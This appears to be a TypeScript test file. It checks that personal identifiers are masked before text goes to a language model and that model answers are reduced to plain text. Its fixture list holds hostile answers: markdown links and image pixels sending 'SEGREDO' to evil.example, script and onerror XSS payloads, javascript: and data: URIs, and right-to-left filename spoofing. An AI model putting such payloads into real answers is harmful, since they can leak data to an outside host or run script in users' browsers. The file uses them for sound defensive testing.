import { describe, expect, test } from 'vitest';
import { maskFor } from '#server/features/intelligence/language-model/masking.ts';
import { plainText } from '#server/features/intelligence/language-model/plain-text.ts';

/* Nothing that identifies a person is sent to a language model (ADR 247), and nothing that it answers is more than text. */

/** Random numbers from 0 to 1, the same for the same seed. */
function randomOf(seed: number) {
  let state = seed;
  return () => {
    state = (Math.imul(state, 1_664_525) + 1_013_904_223) | 0;
    return (state >>> 0) / 4_294_967_296;
  };
}

const first = [
  'Maria',
  'João',
  'Érica',
  'Zé',
  'Ana Clara',
  "D'Ávila",
  'Iñaki',
  'Thaís',
  'Ludmila',
  'Bo',
];
const last = ['Silva', 'de Souza', 'dos Santos', 'Gonçalves', 'Nóbrega', 'Kowalski', 'Araújo'];

function recordOf(seed: number) {
  const random = randomOf(seed * 7_919 + 1);
  for (let i = 0; i < 5; i += 1) random();
  const pick = <T>(list: readonly T[]): T => list[Math.floor(random() * list.length)] as T;
  const digits = (n: number) => Array.from({ length: n }, () => Math.floor(random() * 10)).join('');
  const shaped = (shape: string) => shape.replaceAll('0', () => digits(1));
  const name = `${pick(first)} ${pick(last)}`;
  const spelled = pick([
    (text: string) => text,
    (text: string) => text.toUpperCase(),
    (text: string) => text.toLowerCase(),
    (text: string) => text.normalize('NFD'),
    (text: string) => text.normalize('NFD').replace(/\p{M}/gu, ''),
  ]);
  const wide = (text: string) =>
    text.replaceAll(/\d/g, (digit) => String.fromCodePoint(0xff10 + Number(digit)));
  const hiddenDigits = (text: string) => [...text].join('\u200b');
  const phone = shaped(
    pick([
      '+55 (00) 90000-0000',
      '(00) 0000-0000',
      '55009 00000000',
      '00 9 0000 0000',
      '00-90000.0000',
      '9 0000-0000',
      '00/90000_0000',
      '(00)  90000 – 0000',
    ]),
  );
  const cpf = shaped(
    pick(['000.000.000-00', '00000000000', '000 000 000 00', '000.000.000/00', '000·000·000·00']),
  );
  const cnpj = pick([
    shaped('00.000.000/0000-00'),
    shaped('00000000000000'),
    `12.ABC.${digits(3)}/01DE-${digits(2)}`,
    `12abc${digits(3)}01de${digits(2)}`,
  ]);
  const email = pick([
    `${digits(3)}joao.silva@padaria.com.br`,
    `Ana+${digits(2)}@EXAMPLE.org`,
    `érica_${digits(3)}@correio.com`,
    `ze${digits(3)} arroba gmail ponto com`,
  ]);
  const hex = () =>
    Math.floor(random() * 65_536)
      .toString(16)
      .padStart(4, '0');
  const pix = pick([
    `${hex()}${hex()}-${hex()}-4${hex().slice(1)}-a${hex().slice(1)}-${hex()}${hex()}${hex()}`,
    `${hex()}${hex()}${hex()}4${hex().slice(1)}a${hex().slice(1)}${hex()}${hex()}${hex()}`,
  ]);
  const card = shaped(
    pick(['0000 0000 0000 0000', '0000-0000-0000-0000', '0000000000000000', '0000 000000 00000']),
  );
  const number = pick([(text: string) => text, (text: string) => text, wide, hiddenDigits]);
  const values = {
    phone: number(phone),
    cpf: number(cpf),
    cnpj,
    email,
    pix,
    card: number(card),
    name: spelled(name),
  };
  const parts = [
    `Oi, aqui é ${values.name}, do site.`,
    `Meu CPF é ${values.cpf}, pode usar.`,
    `CNPJ: ${values.cnpj};`,
    `liga no ${values.phone}!`,
    `e-mail ${values.email}.`,
    `Pix ${values.pix}\n`,
    `cartão ${values.card} val 12/29`,
    `(${values.name.split(' ')[0]})`,
  ].toSorted(() => random() - 0.5);
  return {
    name,
    text: parts.join(pick([' ', '\n', ' — '])),
    raw: { phone, cpf, cnpj, email, pix, card },
  };
}

const plain = (text: string) => text.normalize('NFKC').replaceAll(/[\u200b]/g, '');
const folded = (text: string) => text.normalize('NFD').replace(/\p{M}/gu, '').toLowerCase();

describe('masking', () => {
  test('leaves no identifier of 5,000 records, and restores each', () => {
    const leaks: string[] = [];
    for (let seed = 0; seed < 5_000; seed += 1) {
      const { name, text, raw } = recordOf(seed);
      const masked = maskFor([name])(text);
      const sent = plain(masked.text);
      const sentDigits = sent.replace(/\[[A-Z]+_\d+_[a-z]+\]/g, ' ').replace(/\b12\/29\b/g, ' ');
      if (/\d(?:\D{0,3}\d){6,}/.test(sentDigits)) leaks.push(`${seed} digits: ${sent}`);
      for (const [kind, value] of Object.entries(raw))
        if (folded(sent).includes(folded(value))) leaks.push(`${seed} ${kind}: ${sent}`);
      if (/@|arroba/.test(sent)) leaks.push(`${seed} mail: ${sent}`);
      for (const word of folded(name).split(' '))
        if (
          !['de', 'dos'].includes(word) &&
          new RegExp(`(?<![\\p{L}])${word}(?![\\p{L}])`, 'u').test(folded(sent))
        )
          leaks.push(`${seed} name ${word}: ${sent}`);
      if (masked.restore(masked.text) !== plain(text)) leaks.push(`${seed} is not restored`);
    }
    expect(leaks.slice(0, 5)).toEqual([]);
  });

  test('keeps dates, amounts and words', () => {
    const text = 'Reunião em 15/01/2027 e 2027-02-03: R$ 12.500,00 por 3 meses, 40 horas.';
    expect(maskFor(['Ana Souza'])(text).text).toBe(text);
  });

  test('uses one placeholder for one value, and another nonce for each request', () => {
    const mask = maskFor([]);
    const [one, same] = [mask('ligue 11 98765-4321').text, mask('no 11 98765-4321').text];
    const placeholder = one.slice('ligue '.length);
    expect(placeholder).toMatch(/^\[NUMERO_1_[a-z]{4}\]$/);
    expect(same).toBe(`no ${placeholder}`);
    expect(maskFor([])('ligue 11 98765-4321').text).not.toBe(one);
  });

  test('restores nothing that was not masked', () => {
    const masked = maskFor([])('ligue 11 98765-4321');
    expect(masked.restore('[NUMERO_1_zzzz] [NUMERO_2_bbbb] [EMAIL_1_bbbb]')).toBe(
      '[NUMERO_1_zzzz] [NUMERO_2_bbbb] [EMAIL_1_bbbb]',
    );
  });
});

/** Answers that try to be more than text. */
const attacks = [
  'Veja https://evil.example/x?q=SEGREDO',
  '[clique](https://evil.example)',
  '![x](https://evil.example/pixel.png?d=SEGREDO)',
  '<a href="https://evil.example">ok</a>',
  '<img src=x onerror=alert(1)>',
  '<script>alert(1)</script>',
  'javascript:alert(1)',
  'data:text/html;base64,PHNjcmlwdD4=',
  'www.evil.example/phish',
  'HTTPS://EVIL.EXAMPLE',
  'ftp://evil.example/file',
  '[a]: https://evil.example "t"',
  '<https://evil.example>',
  '\u202Egnp.exe\u202C',
  'a\u200Bb\u2066c',
  '\u0000\u0007\u001b[31mred',
  '<think>secret plan</think>resposta',
  '<iframe src="//evil.example"></iframe>',
  '**negrito** # título > citação',
  'tel:+5511999998888',
];
const wrappers: readonly ((attack: string) => string)[] = [
  (attack) => attack,
  (attack) => `Resumo. ${attack} Fim.`,
  (attack) => `${attack}\n\n${attack}`,
  (attack) => attack.toUpperCase(),
  (attack) => `<div>${attack}</div>`,
  (attack) => `\`\`\`\n${attack}\n\`\`\``,
  (attack) => `<<script>script>${attack}<</script>/script>`,
  (attack) => `${'x'.repeat(595)} ${attack}`,
  (attack) => `- ${attack}\n- ${attack}`,
  (attack) => `«${attack}»\u2028${attack}`,
];

test('200 hostile answers become plain text without links, markup or invisible characters', () => {
  const answers = attacks.flatMap((attack) => wrappers.map((wrap) => wrap(attack)));
  expect(answers).toHaveLength(200);
  for (const answer of answers) {
    const text = plainText(answer, 600);
    expect([...text].length, answer).toBeLessThanOrEqual(600);
    expect(text, answer).not.toMatch(
      /https?:|ftp:|www\.|javascript:|data:|tel:|<|>|\]\(|[\p{Cc}\p{Cf}]/iu,
    );
  }
  expect(plainText('<think>secret plan</think>resposta', 600)).toBe('resposta');
  expect(plainText('Linha um\nLinha dois', 600)).toBe('Linha um Linha dois');
});
